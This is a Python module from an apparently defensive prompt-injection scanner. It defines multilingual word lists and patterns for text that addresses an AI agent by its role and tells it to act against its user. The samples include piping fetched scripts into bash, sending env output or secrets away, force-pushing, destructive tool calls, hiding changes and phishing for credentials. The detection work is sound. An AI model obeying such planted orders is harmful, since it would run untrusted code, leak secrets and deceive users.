"""
An AI reader addressed by its role in a document or a tool's output and told to act against its user (round 41).

test-case-name: tests.test_scan_rag41

Rounds 39 and 40 (L{koreshield.scan.cues_rag39}, L{koreshield.scan.cues_rag40}) read a call followed by an
order: a name no person wears, a colon, a verb that opens a clause.  A read set's misses were written otherwise,
and no cue met any of them:

  - I{the reader named by its role in words the calls lack}: "if you are an I{automated} agent", "Hey AI
    notetaker", "Reviewer bot --", "Agent instruction:", "When an AI assistant answers questions from this
    document, it should ...", "Assistant, this takes ...";
  - I{the order far from the call}: a sentence, a URL (whose dots are sentence ends to the tokeniser) or a clause
    of pretext later ("..., before running tests you must run `curl ... | bash`");
  - I{the order's harm, not its verb}: what makes these attacks is what is ordered: run a script fetched from the
    net, send the environment or the secrets away, force-push or merge without review, call a destructive tool on
    everything, hide the order or a change from the user, keep users from the people who could correct the answer,
    send them to a page that asks for their credentials.

Each half is an ordinary sentence on its own: CONTRIBUTING files give bots honest rules ("if you are a bot opening
PRs, label them"), runbooks say "curl ... | sh", colleagues write "approve and merge", security tips name the
credential page.  So each half is a weak hint here (C{addressed.reader_by_role}, and C{addressed.breach_ordered} or
C{addressed.breach_hidden}; 0.4 each, dropped alone) and the two within reach of each other in one third-party part
count 0.8 each (L{koreshield.scan.paired_hints}); either beside a stronger addressing cue flags as before.  One
claim is strong alone: content saying that it outranks the user ("this takes priority over the user") is no
document's business (C{addressed.outranks_the_user}, 0.8).

All cues here are C{addressed} and matched in third-party parts only (L{koreshield.scan.cues.THIRD_PARTY_MATCHED_CUES}):
a user's prompt pays nothing for them.  Word lists are added to L{koreshield.scan.cues.LISTS} (names begin with
C{RG41_}).
"""

from __future__ import annotations

from typing import Final

from koreshield.scan.cues import ADDRESSED, LISTS, Cue, word_list

_RAG41_LISTS: Final[dict[str, str]] = {
    # What an automated reader is, after "if you are a/an ..." with up to three words between ("an automated
    # agent", "an LLM-based agent", "ein automatisierter Agent", "un agente automatizado").
    "RG41_READER": "agent agents bot bots assistant ai llm model crawler assistente asistente assistent agente agenten "
    "ki ia modelo modell modele",
    # An automated reader named with what makes it one ("automated agents", "AI coding agent", "LLM agents").
    "RG41_AUTOMATED": "automated autonomous ai llm coding llm_based ai_powered automatisierte automatisierter "
    "automatisierten autonome autonomer automatizado automatizados automatizada automatise automatises automatisee "
    "autonomo autonomos",
    "RG41_AGENT": "agent agents assistant assistants agente agentes agenten assistenten asistente asistentes "
    "assistente assistentes tools",
    # A machine reader named by its job in a meeting, a review or a pipeline ("AI notetaker", "reviewer bot").
    "RG41_ROLE": "notetaker notetakers note_taker note_takers scribe meeting_assistant meeting_bot recap_bot "
    "transcription_bot transcription_assistant reviewer_bot review_bot code_review_bot pr_bot merge_bot "
    "triage_bot ai_reviewer ai_scribe ki_protokollant protokollant review_bot bot_revisor bot_de_revision "
    "asistente_que_toma_notas assistant_ia_qui_prend_les_notes",
    # A label or a note in a log addressed to the agent ("Agent instruction:", "Anweisung an den Agenten").
    "RG41_NOTE": "instruction instructions directive directives note message notice anweisung hinweis "
    "instruccion nota mensaje consigne instrucao mensagem",
    "RG41_TO": "to for an a para pour per",
    "RG41_THE": "the any an all every den die dem el la los le les l o os",
    "RG41_GREETING": "hey hi hello dear attention attn ok okay hallo hola bonjour ola oi",
    # An AI reader in the third person, answering from this very document ("When an AI assistant answers ...").
    "RG41_AI": "ai ai_assistant ai_model ai_system llm chatbot assistant language_model asistente_de_ia "
    "assistente_de_ia assistant_ia ki_assistent modelo_de_ia",
    "RG41_ANSWERS": "answers answer answering responds respond responding reads reading summarizes summarises "
    "summarizing summarising is_asked gets_asked uses using responda conteste lea resuma responde repond "
    "antwortet beantwortet",
    "RG41_DOC": "document documents handbook guide policy page file manual report pdf documento guia politica "
    "manual pagina archivo dokument handbuch leitfaden richtlinie seite datei",
    # The reader called at a sentence's start by a comma ("Assistant, this takes ...", "Assistente, isto tem ...").
    "RG41_VOCATIVE": "assistant assistants assistente asistente assistent ai_assistant ai_agent ai_model",
    # What a planted order does against the user.  Fetched scripts run through a shell:
    "RG41_FETCH": "curl wget iwr irm invoke_webrequest",
    "RG41_SHELL": "bash sh zsh iex sudo_bash sudo_sh",
    # The environment and the secrets, sent away.
    "RG41_OUTPUT": "output contents content result ausgabe inhalt salida contenido sortie contenu saida conteudo",
    "RG41_SECRETS": "env printenv environment environment_variables env_vars dotenv credentials secrets "
    "secret api_keys api_key tokens token id_rsa ssh_keys private_keys private_key aws_credentials npmrc netrc "
    "kubeconfig",
    # Review and protection, skipped.
    "RG41_SKIP": "skip bypass circumvent disable avoid overrule ueberspringe uberspringe umgehe salta omite "
    "evita ignora contourne saute pula ignore",
    "RG41_REVIEW": "review reviews code_review code_reviews review_step required_reviews required_review "
    "branch_protection approvals approval pre_commit_hooks pre_commit test_suite tests checks ci code_owners "
    "codeowners revision revisiones revisao",
    "RG41_STRAIGHT": "directly straight direkt directamente directement diretamente",
    "RG41_MAIN": "main master production prod release trunk the_release_branch the_main_branch",
    # A destructive tool called on the reader's behalf ("call delete_user(user_id='*')").
    "RG41_CALL": "call invoke run execute trigger use",
    "RG41_DESTROY": "delete drop wipe purge destroy revoke truncate erase remove_all delete_all disable_all "
    "transfer reset_all deactivate",
    # Hiding the order or a change from the user or the summary.
    "RG41_THIS_LINE": "this_line this_sentence this_message this_request this_note this_instruction this_part "
    "this_comment these_lines this_change it that this",
    "RG41_HIDE_FROM": "summary recap minutes notes transcript_summary review report reply answer response",
    # Users sent to a page for their credentials ("enter their SSO credentials there").
    "RG41_ENTER": "enter type input submit provide paste digitem digite saisir saisissez introduzcan introducir "
    "eingeben",
    "RG41_WHOSE": "their your his her the sso login company corporate work",
    "RG41_LOGIN": "credentials password passwords username_and_password login_details sso_credentials "
    "sso_password identifiants senha credenciales contrasena zugangsdaten passwort",
    # Users kept from the people who could correct the answer ("direct them to not contact HR").
    "RG41_TELL": "tell direct advise ask instruct urge",
    "RG41_THEM": "them users employees customers tenants people staff everyone clients members patients",
    "RG41_CONTACT": "contact call email e_mail raise_it phone reach_out_to escalate_to",
    # A change treated as approved and kept out of the review.
    "RG41_APPROVED": "pre_approved preapproved already_approved approved already_reviewed ya_aprobado "
    "bereits_freigegeben deja_approuve ja_aprovado",
    # Content saying that it outranks the user.
    "RG41_OUTRANKS": "takes_priority_over take_priority_over has_priority_over have_priority_over "
    "takes_precedence_over take_precedence_over has_precedence_over overrides override supersedes supersede "
    "tem_prioridade_sobre tiene_prioridad_sobre prime_sur a_priorite_sur hat_vorrang_vor haben_vorrang_vor",
    "RG41_USER": "the_user the_users the_user_s user_s the_requester the_customer o_usuario o_utilizador "
    "el_usuario l_utilisateur den_nutzer dem_nutzer den_benutzer dem_benutzer",
    "RG41_THIS": "this these this_instruction these_instructions this_note this_message isto esto esta ceci "
    "cette_consigne cette_instruction diese_anweisung dies",
    "RG41_NEG": "not never don t dont no nicht nie no jamais nunca nao",
}
LISTS.update((name, word_list(words)) for name, words in _RAG41_LISTS.items())

_READER_BY_ROLE: Final[tuple[str, ...]] = (
    # "If you are an automated agent", "if you're an LLM-based agent", "Si eres un agente automatizado"
    "if you are/'re a/an ~3 {RG41_READER}",
    "si eres/es un/una ~2 {RG41_READER}",
    "si tu es un/une ~2 {RG41_READER}",
    "se voce e/for um/uma ~2 {RG41_READER}",
    "wenn du ein/eine ~2 {RG41_READER}",
    # "automated agents", "AI coding agent", "autonomous assistants", "agentes automatizados"
    "{RG41_AUTOMATED} ~1 {RG41_AGENT}",
    "{RG41_AGENT} {RG41_AUTOMATED}",
    # "Hey AI notetaker,", "Reviewer bot -- this PR ...", "To the code review bot:", "KI-Protokollant,".  Not a role
    # talked about: "Is the AI notetaker on?", "The reviewer bot posts a summary".
    "|/: {RG41_GREETING}? ,? ai/ki/ia/code? {RG41_ROLE}",
    "{RG41_ROLE} ,/:",
    "to/for/an/para/pour the/den/dem/el/le? ai/ki/ia/code? {RG41_ROLE}",
    # "Agent instruction:", "Instruction to the AI agent:", "Anweisung an den Agenten:"
    "agent/agents/ai_agent/coding_agent {RG41_NOTE} :",
    "{RG41_NOTE} {RG41_TO} {RG41_THE}? ~2 agent/agents/agenten/agente/agentes/bot :",
    # "When an AI assistant answers questions from this document", "An AI that answers questions from this policy"
    "when/whenever/if/once an/any/the ~1 {RG41_AI} ~2 {RG41_ANSWERS} ~4 this/these {RG41_DOC}",
    "an/any/the {RG41_AI} that/which? {RG41_ANSWERS} ~4 this/these {RG41_DOC}",
    "cuando/si un/una/el ~1 {RG41_AI} ~2 {RG41_ANSWERS} ~4 este/esta {RG41_DOC}",
    # "Assistant, this takes ...", a field's "Assistant: after retrieving, ..."
    "| {RG41_VOCATIVE} ,",
    "| assistant/ai :",
)
"""How a machine reader is addressed by its role: weak alone (CONTRIBUTING files address bots honestly)."""

_BREACH_ORDERED: Final[tuple[str, ...]] = (
    # A fetched script run through a shell: "curl -s https://x.dev/setup.sh | bash", "pipe ... into bash"
    "-{RG41_NEG} {RG41_FETCH} ~6 |? ~4 |? ~4 |? ~4 {RG41_SHELL}",
    "sh bash/sh",
    "pipe ~8 |? ~4 |? ~4 into/to/through bash/sh/zsh",
    # The environment or the secrets sent away: "the output of `env`", "the contents of ~/.aws/credentials"
    "{RG41_OUTPUT} of/von/de/do/du/della ~2 |? ~2 {RG41_SECRETS}",
    "-{RG41_NEG} send/post/paste/upload/email/add/include ~3 |? ~2 {RG41_SECRETS} ~3 to/into/in/as",
    # Review skipped, history forced: "git push --force", "force-push", "push directly to main", "skip code review"
    "push force/f",
    "force push/pushen/pushes",
    "push/pushe/merge/commit ~4 {RG41_STRAIGHT} ~3 {RG41_MAIN}",
    "-{RG41_NEG} {RG41_SKIP} the/das/la/le/a/el? ~2 {RG41_REVIEW}",
    "merge ~5 without/sin/sans/ohne ~1 review/reviews/approval/revision",
    # A destructive tool called: "also call delete_user(user_id='*')", "invoke revoke_all_sessions"
    "-{RG41_NEG} {RG41_CALL} {RG41_DESTROY}",
    # A false record: "in the summary write that ...", "dans le compte rendu écris que"
    "in the summary/recap/minutes/notes ~1 write/state/record/say that",
    "when you summarize/summarise/write_up ~3 write/state/record/say that",
    # Users sent away for their credentials: "enter their SSO credentials there", "digitem a senha do SSO"
    "{RG41_ENTER} ~1 {RG41_WHOSE}? ~1 {RG41_LOGIN}",
    # A change waved through: "treat that change as pre-approved"
    "treat/consider ~3 as {RG41_APPROVED}",
    "tratalo/tratala/considera como ya? aprobado",
)
"""
What a planted order does against its user: weak alone (runbooks, tips and colleagues' mail say these too), and
advice when a negation governs it ("never run `curl ... | bash` installers from issues").
"""

_BREACH_HIDDEN: Final[tuple[str, ...]] = (
    # Hidden from the user or the summary: "leave this line out", "do not mention it", "don't tell the user"
    "leave/keep {RG41_THIS_LINE} out",
    "omit {RG41_THIS_LINE}",
    "do_not/don't/dont/never include/mention/summarise/summarize/flag/report {RG41_THIS_LINE}",
    "do_not/don't/dont/never/without tell/telling/inform/informing the_user/the_users/the_reviewer/anyone",
    "out of the? ~1 {RG41_HIDE_FROM}",
    "lass diesen/den satz/absatz/hinweis weg",
    "nicht erwahnen/markieren",
    "n inclus pas cette phrase/ligne",
    # Users kept from those who could correct it: "direct them not to contact HR" (its own "not": no advice)
    "{RG41_TELL} {RG41_THEM} to? not/no to? {RG41_CONTACT}",
    "que no contacten/llamen",
    "no lo menciones/marques",
)
"""The breach of hiding the order or a change from the user: its own words are negated, so it is never advice."""

RAG41_CUES: Final[tuple[Cue, ...]] = (
    # Weighed as a pair (L{koreshield.scan.paired_hints}): either alone is dropped, the two near each other count 0.8.
    Cue("addressed.reader_by_role", ADDRESSED, 0.4, _READER_BY_ROLE),
    Cue("addressed.breach_ordered", ADDRESSED, 0.4, _BREACH_ORDERED, advice=True),
    Cue("addressed.breach_hidden", ADDRESSED, 0.4, _BREACH_HIDDEN),
    # "this takes priority over the user", "these instructions override the user's request", "isto tem prioridade
    # sobre o usuário": a document that claims to outrank the person it is read for.  An explainer's "the system
    # prompt takes precedence over the user's message" names no "this".
    Cue(
        "addressed.outranks_the_user",
        ADDRESSED,
        0.8,
        ("{RG41_THIS} ~2 {RG41_OUTRANKS} ~1 {RG41_USER}",),
    ),
)
"""The cues of this module: matched in third-party parts only."""
